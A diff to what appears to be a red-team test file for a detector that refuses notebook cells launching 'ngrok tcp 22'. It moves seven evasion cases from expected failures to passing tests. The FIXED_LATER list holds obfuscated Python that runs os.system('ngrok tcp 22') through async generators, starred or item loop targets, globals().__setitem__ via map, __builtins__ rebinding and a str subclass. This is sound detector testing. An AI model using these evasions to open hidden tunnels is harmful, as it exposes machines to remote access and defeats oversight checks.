@@ -13,8 +13,8 @@ Found missed, each a cell that really starts ``ngrok tcp 22`` (``_runs_ngrok``):
   its variables unbound, so adding ``if c`` undid the loop reading;
 - the command an instance of the cell's own ``class S(str)``: not folded at all.
 Fixed in detect/cells.py (``_is_namespace``/``_names_module``, ``_UNBOUND_DICT_SETTERS``,
-``_namespace_table``, ``ANY_NAME``, ``_Filter``, ``_made_from_str``). Left (xfail): what no
-loop reading of the check follows either.
+``_namespace_table``, ``ANY_NAME``, ``_Filter``, ``_made_from_str``). Left then (xfail):
+what no loop reading of the check followed either; fixed in session 18 (FIXED_LATER).
 
 The earlier-words rule (``CellMemory.words``) turns ``hidden:`` into ``text:`` only: a
 string spelled plainly is never refused either, so it lets nothing through that a plain
@@ -129,45 +129,36 @@ def test_a_namespace_bound_in_one_cell_is_the_namespace_in_the_next():
                                          "r('ngrok tcp 22')")
 
 
-#: Left: what the check reads of no loop either (a ``for`` statement alike is missed too).
-LEFT = [
+#: Left by this session (strict xfails then), fixed in session 18 (tests/test_redteam_cells18.py
+#: has their variants and honest near-misses): plain tests now.
+FIXED_LATER = [
     ("an async comprehension over an async generator",
      "import asyncio\nasync def m():\n    async def g():\n        yield 'ngrok tcp 22'\n"
-     "    return [os.system(c) async for c in g()]\nasyncio.run(m())",
-     "an async generator's items are not folded (async for is not read row by row)"),
+     "    return [os.system(c) async for c in g()]\nasyncio.run(m())"),
     ("a comprehension binding a starred target",
-     "{os.system(' '.join(r)) for *r, in [('ngrok', 'tcp', '22')]}",
-     "a loop binding anything but names (starred, attribute, item) is read unbound"),
+     "{os.system(' '.join(r)) for *r, in [('ngrok', 'tcp', '22')]}"),
     ("a comprehension binding an item",
-     "d = {}\n[os.system(d['c']) for d['c'] in ['ngrok tcp 22']]",
-     "a loop binding anything but names (starred, attribute, item) is read unbound"),
+     "d = {}\n[os.system(d['c']) for d['c'] in ['ngrok tcp 22']]"),
     ("a runner taken from a dict comprehension by key",
-     "r = {n: getattr(os, n) for n in ['system']}['system']\nr('ngrok tcp 22')",
-     "a comprehension's items are not a table of known members (getattr by a loop variable)"),
+     "r = {n: getattr(os, n) for n in ['system']}['system']\nr('ngrok tcp 22')"),
     ("a str class replacing a comparison",
      "class S(str):\n    def __ne__(self, other):\n        return True\n"
-     "os.system(S('ngrok tcp 22'))",
-     "an instance of a str class replacing any of str's methods is not folded (its methods "
-     "may make it any text to the check's folding)"),
+     "os.system(S('ngrok tcp 22'))"),
     ("the namespace's __setitem__ mapped",
-     "list(map(globals().__setitem__, ['r'], [os.system]))\nr('ngrok tcp 22')",
-     "a namespace's method handed to map is not read as called with the items"),
+     "list(map(globals().__setitem__, ['r'], [os.system]))\nr('ngrok tcp 22')"),
     ("__builtins__ as a dict or a module",
-     "getattr(__builtins__, '__dict__', __builtins__)['r'] = os.system\nr('ngrok tcp 22')",
-     "getattr with a default of the same object is not read as the namespace"),
+     "getattr(__builtins__, '__dict__', __builtins__)['r'] = os.system\nr('ngrok tcp 22')"),
 ]
 
 
-@pytest.mark.parametrize("what, cell, reason", LEFT, ids=[c[0] for c in LEFT])
-def test_each_left_evasion_really_starts_ngrok(what, cell, reason, stand_in_path, tmp_path):
-    _runs_ngrok(HEAD + cell, stand_in_path, tmp_path, what)
-
-
-@pytest.mark.parametrize("what, cell", [
-    pytest.param(what, cell, marks=pytest.mark.xfail(strict=True, reason=reason))
-    for what, cell, reason in LEFT], ids=[c[0] for c in LEFT])
-def test_a_left_evasion_is_refused(what, cell):
+@pytest.mark.parametrize("what, cell", FIXED_LATER, ids=[c[0] for c in FIXED_LATER])
+def test_an_evasion_left_then_fixed_later_is_refused(what, cell):
     assert FORBIDDEN in _cell_signatures(HEAD + cell), what
+
+
+@pytest.mark.parametrize("what, cell", FIXED_LATER, ids=[c[0] for c in FIXED_LATER])
+def test_each_evasion_fixed_later_really_starts_ngrok(what, cell, stand_in_path, tmp_path):
+    _runs_ngrok(HEAD + cell, stand_in_path, tmp_path, what)
 
 
 @pytest.mark.parametrize("cell", [
